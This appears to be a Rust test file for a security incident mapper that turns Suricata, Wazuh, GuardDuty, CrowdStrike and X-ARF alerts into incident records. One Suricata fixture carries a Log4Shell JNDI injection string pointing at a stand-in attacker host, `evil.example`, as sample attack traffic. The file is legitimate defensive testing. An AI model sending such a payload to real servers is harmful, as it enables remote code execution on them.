//! What each format becomes.

use playbooks::incident::{Direction, IncidentType};
use playbooks::marking::Severity;

use super::*;

#[test]
fn an_eve_alert_becomes_an_ids_alert() {
    let found = one(Mapper::Suricata, &sample("suricata/alert-1.json"));
    let incident = &found.incident;
    assert_eq!(incident.kind, IncidentType::IdsAlert);
    assert_eq!(
        incident.title,
        "ET HUNTING GENERIC SUSPICIOUS POST to sanitized with Fake Browser 1"
    );
    assert_eq!(incident.severity, Severity::Medium);
    assert_eq!(incident.detected_at.to_string(), "2017-04-07T21:24:37.251547Z");
    assert_eq!(
        incident.summary.as_deref(),
        Some("Potentially Bad Traffic: 5.1.1.1 port 50096 to 5.1.1.2 port 80")
    );
    assert_eq!(incident.signature.as_ref().unwrap().id, "123456");
    assert_eq!(
        observables(&found),
        ["ip 5.1.1.1 source", "ip 5.1.1.2 destination"]
    );
    assert_eq!(incident.raw["flow_id"], json!(123_456_789));
    assert_eq!(found.dedup_within, Span::minutes(10));
}

#[test]
fn an_eve_alert_may_lack_almost_everything() {
    let incident = one(Mapper::Suricata, &sample("suricata/alert-3.json")).incident;
    assert_eq!(incident.title, "Suricata signature 1");
    assert!(incident.network.is_none() && incident.observables.is_empty());
    assert_eq!(incident.severity, Severity::Medium);
}

#[test]
fn other_eve_records_are_ignored_by_name() {
    let found = mapped(Mapper::Suricata, &sample("suricata/non-alert-4.json")).unwrap();
    assert_eq!(
        found,
        [Mapped::Ignored {
            why: "an EVE record of type `flow`, not an alert".to_owned()
        }]
    );
}

#[test]
fn a_broken_eve_line_refuses_all_with_its_place() {
    let refusal = mapped(Mapper::Suricata, &sample("suricata/fever-broken.ndjson")).unwrap_err();
    assert_eq!(
        (refusal.kind, refusal.place.as_str()),
        (RefusalKind::Unreadable, "line 2, column 34")
    );
}

fn eve(source: &str, destination: &str, severity: i64) -> serde_json::Value {
    json!({
        "event_type": "alert", "timestamp": "2026-03-02T03:00:00.000000+0100", "flow_id": 1_893_745_689_234_567_i64,
        "src_ip": source, "src_port": 4444, "dest_ip": destination, "dest_port": 443, "proto": "TCP",
        "alert": {"action": "blocked", "gid": 1, "signature_id": 2_034_647, "severity": severity,
            "signature": "ET EXPLOIT Apache log4j RCE Attempt (CVE-2021-44228)", "category": "Attempted Administrator",
            "metadata": {"mitre_technique_id": ["T1190"], "cve": ["CVE_2021_44228"]}},
        "http": {"hostname": "www.Ville.example", "url": "/?x=${jndi:ldap://evil.example/a}"},
        "files": [{"sha256": "9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08"}],
    })
}

#[test]
fn direction_is_seen_from_the_entity() {
    let direction = |source, destination| {
        let found = one_json(Mapper::Suricata, &eve(source, destination, 1));
        found.incident.network.unwrap().direction
    };
    assert_eq!(direction("203.0.113.77", "198.51.100.10"), Direction::Inbound);
    assert_eq!(direction("198.51.100.10", "203.0.113.77"), Direction::Outbound);
    assert_eq!(direction("198.51.100.10", "198.51.100.11"), Direction::Internal);
    assert_eq!(direction("203.0.113.77", "192.0.2.1"), Direction::Internal);
    assert_eq!(
        direction("::ffff:203.0.113.77", "198.51.100.10"),
        Direction::Inbound
    );
}

#[test]
fn eve_details_reach_their_fields() {
    let found = one_json(Mapper::Suricata, &eve("203.0.113.77", "198.51.100.10", 1));
    let signature = found.incident.signature.clone().unwrap();
    assert_eq!(
        (signature.cve.as_deref(), signature.blocked),
        (Some("CVE-2021-44228"), true)
    );
    assert_eq!(found.incident.tags, ["attack:T1190"]);
    let observables = observables(&found);
    assert!(
        observables.contains(&"domain www.ville.example http_host".to_owned()),
        "{observables:?}"
    );
    assert!(
        observables
            .iter()
            .any(|text| text.starts_with("url http://www.ville.example/?x=")),
        "{observables:?}"
    );
    assert!(
        observables
            .iter()
            .any(|text| text.starts_with("hash 9f86d081884c")),
        "{observables:?}"
    );
}

#[test]
fn severity_scales_run_in_their_own_direction() {
    for (number, severity) in [
        (1, Severity::High),
        (2, Severity::Medium),
        (3, Severity::Low),
        (255, Severity::Low),
    ] {
        let found = one_json(Mapper::Suricata, &eve("203.0.113.1", "198.51.100.1", number));
        assert_eq!(found.incident.severity, severity, "suricata {number}");
        assert_eq!(found.incident.raw["alert"]["severity"], json!(number));
    }
    for (level, severity) in [
        (3, Severity::Low),
        (7, Severity::Medium),
        (12, Severity::High),
        (15, Severity::Critical),
    ] {
        let alert = json!({"id": "1", "timestamp": "2026-03-02T03:00:00.123+0000", "agent": {"id": "001"},
            "rule": {"id": "5710", "level": level, "description": "sshd: attempt"}});
        assert_eq!(
            one_json(Mapper::Wazuh, &alert).incident.severity,
            severity,
            "wazuh {level}"
        );
    }
    for (number, severity) in [
        (1.0, Severity::Low),
        (4.0, Severity::Medium),
        (6.9, Severity::Medium),
        (7.0, Severity::High),
        (9.5, Severity::Critical),
    ] {
        let finding = json!({"id": "a", "type": "Recon:EC2/PortProbe", "severity": number, "title": "t"});
        assert_eq!(
            one_json(Mapper::GuardDuty, &finding).incident.severity,
            severity,
            "guardduty {number}"
        );
    }
    for (fields, severity) in [
        (json!({"Severity": 4, "SeverityName": "High"}), Severity::High),
        (json!({"Severity": 5}), Severity::Critical),
        (json!({"severity": 70}), Severity::High),
        (json!({"severity": 30}), Severity::Low),
    ] {
        let mut alert =
            json!({"CompositeId": "a:b", "Name": "x", "ExternalApiType": "Event_EppDetectionSummaryEvent"});
        alert
            .as_object_mut()
            .unwrap()
            .extend(fields.as_object().unwrap().clone());
        assert_eq!(
            one_json(Mapper::CrowdStrike, &alert).incident.severity,
            severity,
            "{fields}"
        );
    }
}

#[test]
fn guardduty_findings_in_every_envelope_are_the_same() {
    let bytes = sample("guardduty/aws_guardduty_high_sev_findings-1.json");
    let finding: serde_json::Value = serde_json::from_slice(&bytes).unwrap();
    let plain = one(Mapper::GuardDuty, &bytes);
    assert_eq!(plain.incident.severity, Severity::High);
    assert_eq!(plain.dedup_key, "eeb88ab56556eb7771b266670dddee5a");
    assert!(!plain.incident.tags.contains(&"sample".to_owned()));
    assert!(observables(&plain).contains(&"domain cloudformation.amazonaws.com caller".to_owned()));
    let event = json!({"source": "aws.guardduty", "detail-type": "GuardDuty Finding", "detail": finding});
    let note = json!({"Type": "Notification", "Message": event.to_string()});
    for envelope in [json!([finding]), json!({"Findings": [finding]}), event, note] {
        assert_eq!(
            one_json(Mapper::GuardDuty, &envelope).dedup_key,
            plain.dedup_key,
            "{envelope}"
        );
        assert_eq!(
            Mapper::detect(envelope.to_string().as_bytes()).unwrap(),
            Mapper::GuardDuty
        );
    }
}

#[test]
fn guardduty_samples_say_so() {
    let found = one(
        Mapper::GuardDuty,
        &sample("guardduty/aws_guardduty_high_sev_findings-2.json"),
    );
    assert!(found.incident.tags.contains(&"sample".to_owned()));
    let newer = json!({"Id": "a", "Type": "Backdoor:EC2/C&CActivity.B", "Severity": 8.0, "Title": "t",
        "Service": {"AdditionalInfo": {"Value": "{\"sample\":true}", "Type": "default"}}});
    let found = one_json(Mapper::GuardDuty, &newer);
    assert_eq!(found.incident.tags, ["no-time", "sample"]);
    assert_eq!(found.incident.kind, IncidentType::Malware);
}

#[test]
fn crowdstrike_detections_are_taken_and_telemetry_is_not() {
    let found = one(
        Mapper::CrowdStrike,
        &sample("crowdstrike/crowdstrike_detection_passthrough-1.json"),
    );
    let incident = &found.incident;
    assert_eq!(
        (incident.kind, incident.severity),
        (IncidentType::Malware, Severity::Low)
    );
    assert_eq!(incident.title, "NGAV");
    assert_eq!(
        incident.host.as_ref().unwrap().hostname.as_deref(),
        Some("macbook")
    );
    assert_eq!(incident.user.as_ref().unwrap().id, "bobert");
    assert!(incident.signature.as_ref().unwrap().blocked);
    assert_eq!(incident.detected_at.to_string(), "2021-09-18T20:38:52Z");
    let found = observables(&found);
    assert!(
        found.contains(&"ip 1.1.1.1 own".to_owned())
            && found.iter().any(|text| text.starts_with("hash 00000000009d")),
        "{found:?}"
    );
    assert!(
        !found
            .iter()
            .any(|text| text.contains("0000000000000000000000000000000000000000 ")),
        "{found:?}"
    );

    let ignored = mapped(
        Mapper::CrowdStrike,
        &sample("crowdstrike/crowdstrike_base64_encoded_args-19.json"),
    )
    .unwrap();
    assert_eq!(
        ignored,
        [Mapped::Ignored {
            why: "a CrowdStrike record of type `ProcessRollup2`, not a detection".to_owned()
        }]
    );
}

#[test]
fn crowdstrike_events_of_the_stream_are_read_inside() {
    let event = json!({
        "metadata": {"customerIDString": "c", "offset": 14, "eventType": "DetectionSummaryEvent", "eventCreationTime": 1_536_846_301_000_i64},
        "event": {"DetectId": "ldt:a:1", "DetectName": "Process injection", "Severity": 4, "SeverityName": "High",
            "ComputerName": "PC-7", "UserName": "a.martin", "SensorId": "s1", "Tactic": "Defense Evasion",
            "SHA256String": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", "LocalIP": "10.0.0.7"},
    });
    let found = one_json(Mapper::CrowdStrike, &event);
    assert_eq!(found.incident.title, "Process injection");
    assert_eq!(found.incident.detected_at.to_string(), "2018-09-13T13:45:01Z");
    assert_eq!(found.incident.host.as_ref().unwrap().id, "s1");
    assert_eq!(found.incident.tags, ["tactic:Defense Evasion"]);
}

#[test]
fn wazuh_alerts_are_told_from_events() {
    let alert = json!({"timestamp": "2026-03-02T03:00:00.123+0100", "id": "1580123327.49031", "manager": {"name": "m1"},
        "agent": {"id": "004", "name": "srv-mail", "ip": "198.51.100.20"},
        "rule": {"id": "5712", "level": 10, "description": "sshd: brute force", "groups": ["syslog", "sshd"], "mitre": {"id": ["T1110"]}},
        "data": {"srcip": "203.0.113.9", "dstuser": "root"}, "full_log": "Failed password for root"});
    let found = one_json(Mapper::Wazuh, &alert);
    assert_eq!(found.incident.kind, IncidentType::SuspiciousLogin);
    assert_eq!(found.incident.user.as_ref().unwrap().id, "root");
    assert_eq!(found.incident.tags, ["syslog", "sshd", "attack:T1110"]);
    assert_eq!(
        observables(&found),
        ["ip 203.0.113.9 source", "ip 198.51.100.20 own"]
    );
    assert_eq!(
        Mapper::detect(alert.to_string().as_bytes()).unwrap(),
        Mapper::Wazuh
    );

    let quiet = json!({"agent": {"id": "1"}, "rule": {"level": 2, "id": "1"}});
    let event = json!({"agent": {"id": "1"}, "full_log": "x"});
    for value in [quiet, event] {
        let found = mapped(Mapper::Wazuh, value.to_string().as_bytes()).unwrap();
        assert!(matches!(found.as_slice(), [Mapped::Ignored { .. }]), "{found:?}");
    }
    let refusal = mapped(Mapper::Wazuh, br#"{"rule": {"level": 99}}"#).unwrap_err();
    assert_eq!(
        refusal.to_string(),
        "rule.level: 99 is no level of Wazuh; levels are 0 to 16"
    );
}

#[test]
fn an_xarf_report_keeps_its_evidence_as_files() {
    let found = one(Mapper::Xarf, &sample("x-arf/v4-content-phishing.json"));
    let incident = &found.incident;
    assert_eq!(incident.kind, IncidentType::Phishing);
    assert_eq!(incident.title, "X-ARF content: phishing from 203.0.113.45");
    assert_eq!(
        incident.reporter.as_ref().unwrap().email,
        "takedown@brand-protect.example"
    );
    assert_eq!((found.files.len(), incident.files.len()), (2, 2));
    assert!(found.files[1].bytes.starts_with(b"<html>"));
    let payload = incident.raw["evidence"][1]["payload"].as_str().unwrap();
    assert_eq!(
        payload,
        format!("kept as a file, sha256:{}", found.files[1].reference.sha256)
    );
    let observables = observables(&found);
    assert!(observables.contains(&"ip 203.0.113.45 source".to_owned()));
    assert!(observables.contains(&"url http://secure-banking-login.example.com/auth link".to_owned()));
}

#[test]
fn older_xarf_reports_are_read_and_checked() {
    let found = one(Mapper::Xarf, &sample("x-arf/1-phishing_sample.json"));
    assert_eq!(found.incident.kind, IncidentType::Phishing);
    assert_eq!(found.incident.title, "X-ARF content: Phishing from 192.0.2.55");
    assert_eq!(found.files[0].bytes, b"<html>Phishy</html>");

    let found = one(Mapper::Xarf, &sample("x-arf/botnet_v3_sample.json"));
    assert_eq!(found.incident.kind, IncidentType::Malware);
    assert!(
        observables(&found).contains(&"domain malicious-command.example.com command_and_control".to_owned())
    );

    let refusal = mapped(Mapper::Xarf, &sample("x-arf/1-invalid_destination.json")).unwrap_err();
    assert_eq!(
        refusal.to_string(),
        "Report.DestinationIp: this is not an IP address; see the description of X-ARF 3"
    );
}

#[test]
fn xarf_4_is_checked_against_its_schemas() {
    let good: serde_json::Value = serde_json::from_slice(&sample("x-arf/v4-content-phishing.json")).unwrap();
    let refused = |key: &str, value: serde_json::Value| {
        let mut bad = good.clone();
        bad[key] = value;
        mapped(Mapper::Xarf, bad.to_string().as_bytes()).unwrap_err()
    };
    assert_eq!(refused("type", json!("vishing")).place, "type");
    assert_eq!(refused("timestamp", json!("yesterday")).place, "timestamp");
    assert_eq!(refused("reporter", json!({"org": "x"})).place, "reporter");
    assert_eq!(refused("source_port", json!(70_000)).place, "source_port");
    assert_eq!(refused("xarf_version", json!("5.0.0")).place, "xarf_version");
}
